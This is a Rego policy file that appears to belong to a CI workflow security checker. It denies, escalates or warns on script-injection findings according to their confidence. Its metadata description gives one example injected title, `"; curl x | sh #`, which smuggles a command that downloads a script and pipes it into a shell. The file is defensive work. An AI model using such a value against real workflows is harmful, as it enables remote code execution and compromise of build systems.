# METADATA
# title: No text of strangers becomes part of a script
# description: An expression is put into the script before the shell reads it, so a title such as `"; curl x | sh #` is run.
# scope: package
# custom:
#   code: workflows/injection
#   effect: deny
#   severity: high
#   help: Hand the value over in `env` and write `"$NAME"` in the script.
#   since: 0.1.0
package orch.workflows.injection

import data.orch.lib.facts

deny contains facts.finding(fact) if {
	some fact in facts.of("workflows/injection")
	fact.confidence == "high"
}

require_approval contains facts.finding(fact) if {
	some fact in facts.of("workflows/injection")
	fact.confidence == "medium"
	fact.attributes.kind == "rights"
}

warn contains facts.finding(fact) if {
	some fact in facts.of("workflows/injection")
	fact.confidence == "medium"
	not fact.attributes.kind
}
